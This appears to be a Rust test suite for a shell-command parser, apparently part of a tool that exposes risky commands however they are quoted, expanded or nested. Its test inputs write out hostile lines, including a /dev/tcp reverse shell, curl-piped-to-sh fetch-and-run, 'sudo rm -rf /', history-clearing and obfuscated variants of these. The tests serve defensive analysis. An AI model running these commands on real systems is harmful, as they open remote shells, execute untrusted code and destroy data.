//! One line a construct; the print is explained in `show`.

use proptest::prelude::{Just, Strategy, any, prop_oneof, proptest};

use super::super::show::show;
use super::{LIMIT, Patience};
use crate::form::{Expr, LoweredProgram, Stmt};

fn shell(text: &str) -> LoweredProgram {
    super::shell(text, &Patience::default())
}

#[track_caller]
fn check(source: &str, expected: &str) {
    assert_eq!(show(&shell(source)), expected, "{source}");
}

#[test]
fn quotes_and_escapes_are_undone() {
    check(r#"c""url x"#, r#"curl["x"]"#);
    check("c'u'rl", "curl[]");
    check("\"cu\"rl", "curl[]");
    check(r"c\url -s", r#"curl["-s"]"#);
    check("cu\\\nrl x | s\\\nh", r#"sh[] <- curl["x"]"#);
    check(
        r"$'\x63url' $'\143\n' $'\u0041\'b' $'\xc3\xa9' $'\q'",
        r#"curl["c\n", "A'b", "é", "q"]"#,
    );
    check(
        r#"echo "a$x b\n\"c\$" 'd'"e" a\ b """#,
        r#"echo[join("a", $x, " b\\n\"c$"), "de", "a b", ""]"#,
    );
    check(
        "echo \"a\n  b $x\n c\\\nd\"",
        r#"echo[join("a\n  b ", $x, "\n cd")]"#,
    );
    check("echo $\"hi\" $ 5", r#"echo["hi", "$", "5"]"#);
    check("echo a#b #c", r#"echo["a#b"]"#);
    check("/usr/bin/curl ~/x", r#"curl["~/x"]"#);
}

#[test]
fn words_are_split_and_expanded() {
    check("curl${IFS}-s${IFS}http://x", r#"curl["-s", "http://x"]"#);
    check("curl$IFS-s \"$IFS\"", r#"curl["-s", $IFS]"#);
    check(
        "{curl,-s,http://x} | sh",
        r#"sh[] <- curl["-s", "http://x"]"#,
    );
    check("sudo {rm,-rf,/}", r#"sudo[rm["-rf", "/"]]"#);
    check(
        "a a{1,2}b {1..3} {c..a} {x,\"y z\"} {a} {}",
        r#"a["a1b", "a2b", "1", "2", "3", "c", "b", "a", "x", "y z", "{a}", "{}"]"#,
    );
    check("echo {a,b}{c,d}", r#"echo["ac", "ad", "bc", "bd"]"#);
    check(
        "curl -d '{\"a\":1,\"b\":2}' x",
        r#"curl["-d", "{\"a\":1,\"b\":2}", "x"]"#,
    );
}

#[test]
fn substitutions_are_calls() {
    check("a `b c` $(d)", r#"a[b["c"], d[]]"#);
    check("bash <(curl x)", r#"bash[curl["x"]]"#);
    check(
        "bash -c \"$(curl -fsSL x)\"",
        r#"bash["-c", curl["-fsSL", "x"]]"#,
    );
    check("x=$(y=1; a; b)", r#"y = "1"; x = parts(a[], b[])"#);
    check("x=$((curl x) | sh)", r#"x = sh[] <- curl["x"]"#);
    check("echo $(<f)", r#"echo[<["f"]]"#);
    check(
        "x=$((1+2)); ((i++)); echo $((`curl x`))",
        r#"x = _; echo[curl["x"]]"#,
    );
}

#[test]
fn expansions_keep_their_name() {
    check(
        "X=cur; ${X}l http://x",
        r#"X = "cur"; <join($X, "l")>["http://x"]"#,
    );
    check("$X a; \"$1\"", r#"<$X>["a"]; <$1>[]"#);
    check("$(echo curl) x", r#"<echo["curl"]>["x"]"#);
    check(
        "e ${x:-d} ${x:=$(a)} ${x:+$y}",
        r#"x = :-<$x>[a[]]; e[:-<$x>["d"], $x, parts($x, $y)]"#,
    );
    check(
        "e ${x//a/b} ${x/a} ${x:0:3} ${x:2}",
        r#"e[.replace<$x>["a", "b"], .replace<$x>["a", "", 1], .slice<$x>[0, 3], .slice<$x>[2]]"#,
    );
    check(
        "e ${!x} ${#x} ${x^^} ${x%.sh} ${x%.*}",
        r#"e[indirect[$x], _, .upper<$x>[], .removesuffix<$x>[".sh"], parts($x, ".*")]"#,
    );
    check(
        "e $@ ${@} $? ${a[0]} ${a[@]} ${a[$i]}",
        r#"e[$@, $@, $?, $a.0, $a, $a]"#,
    );
}

#[test]
fn programs_that_run_programs_show_both() {
    check("sudo -u x curl y", r#"sudo["-u", "x", curl["y"]]"#);
    check(
        "env -i FOO=1 B=\"$c\" curl x",
        r#"env["-i", "FOO=1", join("B=", $c), curl["x"]]"#,
    );
    check(
        "nohup nice -n 5 timeout -k 1 5 sh x",
        r#"nohup[nice["-n", "5", timeout["-k", "1", "5", sh["x"]]]]"#,
    );
    check(
        "time command exec builtin a",
        r#"time[command[exec[builtin[a[]]]]]"#,
    );
    check(
        "busybox wget x; stdbuf -oL a; setsid b",
        r#"busybox[wget["x"]]; stdbuf["-oL", a[]]; setsid[b[]]"#,
    );
    check(
        "ls | xargs -I{} curl {}",
        r#"xargs["-I{}", curl["{}"]] <- ls[]"#,
    );
    check(
        "find . -exec rm {} \\; -print",
        r#"find[".", "-exec", rm["{}"], "-print"]"#,
    );
    check("command -v curl", r#"command["-v", "curl"]"#);
    check("sudo $X a", r#"sudo[<$X>["a"]]"#);
    check("env; sudo -i", r#"env[]; sudo["-i"]"#);
}

#[test]
fn pipes_and_lists_keep_the_order() {
    check("a | b |& c", "c[] <- b[] <- a[]");
    check("a && b || c; d & e", "a[]; b[]; c[]; d[]; e[]");
    check("a && b | c > f", r#"a[]; >["f"] <- c[] <- b[]"#);
    check("a | b && c | d", "b[] <- a[]; d[] <- c[]");
    check("! a |\nb", "b[] <- a[]");
    check("a | tee f", r#"tee["f"] <- a[]"#);
    check("(a; b) | c", "c[] <- join(a[], \"\\n\", b[])");
    check("a | { cd x; sh; }", r#"cd["x"]; sh[] <- a[]"#);
    check(
        "a | while read l; do b $l; done",
        "l = read[\"l\"] <- a[]; block {b[$l]}",
    );
    check("{ a; b; } > f", r#">["f"] <- join(a[], "\n", b[])"#);
    check(
        "a|b|c|d|e|f|g|h|i|j",
        "|0 = a[]; j[] <- i[] <- $|0"
            .replace(
                "|0 = a[]",
                "|14 = h[] <- g[] <- f[] <- e[] <- d[] <- c[] <- b[] <- a[]",
            )
            .replace("$|0", "$|14")
            .as_str(),
    );
}

#[test]
fn redirections_are_reads_and_writes() {
    check("a > f 2>&1", r#">["f"] <- a[]"#);
    check("a >> ~/.bashrc", r#">["~/.bashrc"] <- a[]"#);
    check("sh < f; < f sh", r#"sh[] <- <["f"]; sh[] <- <["f"]"#);
    check("a 2>/dev/null | b", "b[] <- a[]");
    check("a 2>e | b", r#">["e"]; b[] <- a[]"#);
    check(
        "curl -o x 2>/dev/null http://y | sh",
        r#"sh[] <- curl["-o", "x", "http://y"]"#,
    );
    check("> f", r#">["f"]"#);
    check(
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        r#">["/dev/tcp/1.2.3.4/80"] <- bash["-i"]"#,
    );
    check(
        "exec 5<>/dev/tcp/1/2",
        r#">["/dev/tcp/1/2"] <- exec[] <- <["/dev/tcp/1/2"]; !"#,
    );
    check("a &>/dev/null", r#">["/dev/null"] <- a[]"#);
    check("bash <<< \"$x\"", "bash[] <- $x");
    check(
        "while read l; do a; done < f",
        r#"l = read["l"] <- <["f"]; block {a[]}"#,
    );
}

#[test]
fn here_documents_are_input() {
    check(
        "cat <<EOF > file\nhi $x `y z` \\$a\nEOF\nls",
        r#">["file"] <- cat[] <- join("hi ", $x, " ", y["z"], " $a\n"); ls[]"#,
    );
    check(
        "cat > file <<'EOF'\nhi $x\nEOF\n",
        r#">["file"] <- cat[] <- "hi $x\n""#,
    );
    check(
        "cat <<\"EOF\" | bash\nhi $x\nEOF\n",
        r#"bash[] <- cat[] <- "hi $x\n""#,
    );
    check(
        "cat <<A | sh && rm x\nhi\nA\n",
        r#"sh[] <- cat[] <- "hi\n"; rm["x"]"#,
    );
    check(
        "python3 - <<'PY' a b\nimport os\nPY\n",
        r#"python3["-", "a", "b"] <- "import os\n""#,
    );
    check("cat <<-E\n\thi\n\tyou\n\tE\n", r#"cat[] <- "hi\nyou\n""#);
    check(
        "cat <<EOF\r\nhi\r\nEOF\r\nls\r\n",
        r#"cat[] <- "hi\r\n"; ls[]"#,
    );
}

#[test]
fn assignments_bind() {
    check(
        "X=1; Y=; X+=b$c",
        r#"X = "1"; Y = ""; X = join($X, join("b", $c))"#,
    );
    check(
        "export X=1 Y; local a=b c=$d; declare -r e=f; readonly g=h",
        r#"X = "1"; a = "b"; c = $d; e = "f"; g = "h""#,
    );
    check("export -p | a", r#"a[] <- export["-p"]"#);
    check(
        "arr=(a \"b\" $c)",
        r#"arr.0 = "a"; arr.1 = "b"; arr = list("a", "b", $c)"#,
    );
    check(
        "arr[1]=x; m[k]=y; m[$i]=z",
        r#"arr.1 = "x"; m.k = "y"; m = "z""#,
    );
    check(
        "A=1 B=2 cmd x; A=1 B=2",
        r#"A = "1"; B = "2"; cmd["x"]; A = "1"; B = "2""#,
    );
    check(
        "read -rp 'a b' X Y; read",
        r#"X = read["-rp", "a b", "X", "Y"]; Y = $X; REPLY = read[]"#,
    );
    check("printf -v X %s a", r#"X = printf["-v", "X", "%s", "a"]"#);
    check("unset HISTFILE", r#"unset["HISTFILE"]"#);
}

#[test]
fn control_flow_is_kept_as_blocks() {
    check(
        "f() { a $1 ${2}; }; function g { b; }",
        "fn f(1,2) {a[$1, $2]}; fn g() {b[]}",
    );
    check(
        "if a; then b; elif c; then d; else e; fi",
        "block a[] {b[]; block c[] {d[]}; e[]}",
    );
    check(
        "for i in a b; do x $i; done",
        r#"block {i = parts("a", "b"); x[$i]}"#,
    );
    check(
        "for i; do x; done; select y in $(a); do b; done",
        "block {i = $@; x[]}; block {y = a[]; b[]}",
    );
    check("for ((i=0;i<3;i++)); do a; done", "block {a[]}");
    check(
        "while :; do a | sh; done; until b; do c; done",
        "block :[] {sh[] <- a[]}; block b[] {c[]}",
    );
    check("case $x in a|b) c;; *) d;; esac", "block $x {c[]; d[]}");
    check(
        "[[ -f $x && $y == z ]] && a || b",
        r#"test["-f", $x, "&&", $y, "==", "z"]; a[]; b[]"#,
    );
    check(
        "[ -z \"$(curl x)\" ] && a &",
        r#"test["-z", curl["x"]]; a[]"#,
    );
}

#[test]
fn builtins_that_run_text_are_calls() {
    check("trap 'rm x' EXIT", r#"trap["rm x", "EXIT"]"#);
    check(
        "eval \"$x\"; . ./f; source g",
        r#"eval[$x]; source["./f"]; source["g"]"#,
    );
    check(
        "alias ll='ls -l'",
        r#"fn ll() {eval["ls -l"]}; alias["ll=ls -l"]"#,
    );
}

#[test]
fn comments_and_prompts_are_dropped() {
    check("#!/bin/sh\n# curl\na # b\n", "a[]");
    check(
        "$ curl x\n% brew install y\n  $ z\n> npm i\n> f",
        r#"curl["x"]; brew["install", "y"]; z[]; npm["i"]; >["f"]"#,
    );
    check("if a; then\r\n b\r\nfi\r\n", "block a[] {b[]}");
}

#[test]
fn what_is_broken_is_still_read() {
    check("a $(b", "a[b[]]; !");
    check("a; curl x | sh; if", r#"a[]; sh[] <- curl["x"]; !"#);
    check("npm i <package>", r#"npm["i"] <- <["package"]; !"#);
    let program = shell("a\ncurl x | sh\n\"unclosed\n");
    assert!(
        show(&program).starts_with(r#"a[]; sh[] <- curl["x"]"#),
        "{}",
        show(&program)
    );
    assert!(program.broken.is_some());
}

#[test]
fn positions_are_offsets_into_the_given_text() {
    let program = shell("$ é; sudo curl x\n");
    let Some(Stmt::Do(Expr::Call(call))) = program.body.get(1) else {
        panic!("{}", show(&program))
    };
    assert_eq!((call.at, call.end), (6, 17));
    let Expr::Call(inner) = &call.args[0].value else {
        panic!("no call")
    };
    assert_eq!((inner.at, inner.end), (11, 17));
}

#[test]
fn hostile_texts_end() {
    let long = |piece: &str, count: usize| piece.repeat(count);
    for text in [
        long("$(", 10_000),
        long("$(a ", 10_000) + &long(")", 10_000),
        long("(", 10_000),
        long("((((", 10_000),
        long("a", LIMIT),
        long("\"", 9_999),
        long("'", 9_999),
        long("`", 9_999),
        long("\0", 30_000),
        long("<", 30_000),
        long("${", 30_000),
        long("${a:-", 10_000),
        long("{a,b}$(", 5_000),
        long("{a,", 5_000),
        long("a && ", 20_000),
        long("a | ", 20_000),
        long("sudo ", 20_000),
        long("> a ", 20_000),
        long("f() { ", 20_000),
        long("if ", 10_000),
        long("case a in ", 5_000),
        long("cat <<A\n", 2_000),
        long("[[ a && ", 5_000),
        long("a (b) {c ${d `e 'f \"g <<H ", 1_000),
    ] {
        drop(shell(&text));
    }
    assert_eq!(show(&shell(&long("a", LIMIT + 1))), "!");
}

#[test]
fn nothing_hides_behind_depth_length_or_noise() {
    // Anything that is cut is reported to the user; all other lines must be present.
    let found = |text: &str| {
        let program = shell(text);
        assert!(
            program.cut || show(&program).contains(r#"curl["x"]"#),
            "{}",
            &text[..40]
        );
    };
    found(&("$(".repeat(2_000) + "curl x" + &")".repeat(2_000)));
    found(&("( ".repeat(2_000) + "curl x" + &")".repeat(2_000)));
    found(&("if a; then ".repeat(1_000) + "curl x; " + &"fi; ".repeat(1_000)));
    found(&("curl x".to_owned() + &" && true".repeat(2_000)));
    found(&("curl x".to_owned() + &" | cat".repeat(2_000)));
    found(&("curl x\n".to_owned() + &"<".repeat(20_000)));
    found(&("<".repeat(20_000) + "\ncurl x\n"));
}

fn soup() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        proptest::sample::select(
            [
                "$(", ")", "((", "`", "\"", "'", "${", "}", "{", ",", "..", "|", "&&", ";", "\n",
                "<<E", "E\n", "<", ">", ">&", "2", "=", "+=", " ", "\\", "$'", "\\x", "if ",
                "then ", "fi", "do ", "done", "case ", "esac", "in ", "curl", "sudo ", "read ",
                "[[ ", "]]", "$IFS", "é", "\r", "#", "f() ", ":", "/", "!", "@", "-"
            ]
            .as_slice()
        )
        .prop_map(str::to_owned),
        Just("x".to_owned()),
    ];
    proptest::collection::vec(token, 0..60).prop_map(|tokens| tokens.concat())
}

proptest! {
    #[test]
    fn any_text_is_lowered(text in any::<String>()) {
        drop(shell(&text));
    }

    #[test]
    fn any_tokens_are_lowered(text in soup()) {
        let program = shell(&text);
        proptest::prop_assert!(program.broken.is_none_or(|at| at as usize <= text.len()));
    }
}

/// The parser is written in C, and two kinds of characters made it read invalid addresses.
#[test]
fn characters_beyond_ascii_are_safe_and_kept() {
    for unit in [
        "e(x): r\u{fffd}turn",
        "`\u{fffd}$(",
        "é\"",
        "<<\u{fffd}\n",
        "{\u{10ffff}",
    ] {
        for count in [1, 100, 200, 400] {
            drop(shell(&unit.repeat(count)));
        }
    }
    check("écho \"日本$x\" 'ü'", r#"écho[join("日本", $x), "ü"]"#);
    check("cat <<É\nå $x\nÉ\n", "cat[] <- join(\"å \", $x, \"\\n\")");
}
